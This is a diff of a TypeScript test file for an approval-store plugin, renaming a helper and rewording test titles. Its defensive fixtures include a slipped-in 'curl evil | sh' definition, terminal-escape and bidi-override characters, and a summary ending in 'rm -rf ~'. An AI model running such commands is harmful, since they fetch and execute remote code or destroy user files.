@@ -3,7 +3,7 @@ import { describe, expect, test } from "vitest";
 import { createGateway } from "../../../core/mod.ts";
 import { approvals, createApprovalStore } from "../../../plugins/approvals/mod.ts";
 import { fileStore, memoryStore, state } from "../../../plugins/state/mod.ts";
-import { failureOf } from "../../support/failure.ts";
+import { catchFailure } from "../../support/failure.ts";
 import { temporaryFolder } from "../../support/temporary-folder.ts";
 
 describe("an approval", () => {
@@ -27,7 +27,7 @@ describe("an approval", () => {
     expect(await book.status("server", "db", "h1")).toBe("changed");
   });
 
-  test("is given to what the person saw, though the definition has changed since", async () => {
+  test("applies to the definition that the user saw, though it has changed since", async () => {
     const book = createApprovalStore(memoryStore());
     await book.request("server", "db", "seen", "npx db");
     await book.request("server", "db", "slipped-in", "curl evil | sh");
@@ -72,8 +72,8 @@ describe("an approval", () => {
 
   test("needs a hash", async () => {
     const book = createApprovalStore(memoryStore());
-    expect((await failureOf(book.approve("server", "db", ""))).message).toContain("needs the hash");
-    expect((await failureOf(book.request("server", "db", "", "x"))).message).toContain("needs the hash");
+    expect((await catchFailure(book.approve("server", "db", ""))).message).toContain("needs the hash");
+    expect((await catchFailure(book.request("server", "db", "", "x"))).message).toContain("needs the hash");
     expect(await book.list()).toEqual([]);
   });
 });
@@ -118,7 +118,7 @@ describe("a request", () => {
     expect((await book.list())[0]).not.toHaveProperty("requested");
   });
 
-  test("cannot draw on the terminal that its summary is shown on", async () => {
+  test("cannot control the terminal that prints its summary", async () => {
     const book = createApprovalStore(memoryStore());
     await book.request("server", "db", "h1", "npx\u001b[2J db\n\u202egpj.sh\u0000\u200b   --flag");
     expect((await book.list())[0]?.requested?.summary).toBe("npx [2J db gpj.sh --flag");
@@ -132,12 +132,12 @@ describe("a request", () => {
     expect(summary).toMatch(/^npx db x+ … \(4017 more characters\) … x+; rm -rf ~$/);
   });
 
-  test("takes text only, so that no definition with its secrets is kept by mistake", async () => {
+  test("accepts only strings, so that no definition with its secrets is kept by mistake", async () => {
     const store = memoryStore();
     const definition = { command: "npx", env: { TOKEN: "secret" } } as unknown as string;
-    expect((await failureOf(createApprovalStore(store).request("server", "db", "h1", definition))).code).toBe(
-      "INTERNAL",
-    );
+    expect(
+      (await catchFailure(createApprovalStore(store).request("server", "db", "h1", definition))).code,
+    ).toBe("INTERNAL");
     expect(await store.list("")).toEqual([]);
   });
 });
@@ -185,7 +185,7 @@ describe("the plugin", () => {
   });
 
   test("needs the state", async () => {
-    expect((await failureOf(createGateway({ plugins: [approvals()] }))).message).toContain(
+    expect((await catchFailure(createGateway({ plugins: [approvals()] }))).message).toContain(
       'needs the service "state", which no plugin provides. Add the plugin "state"',
     );
   });
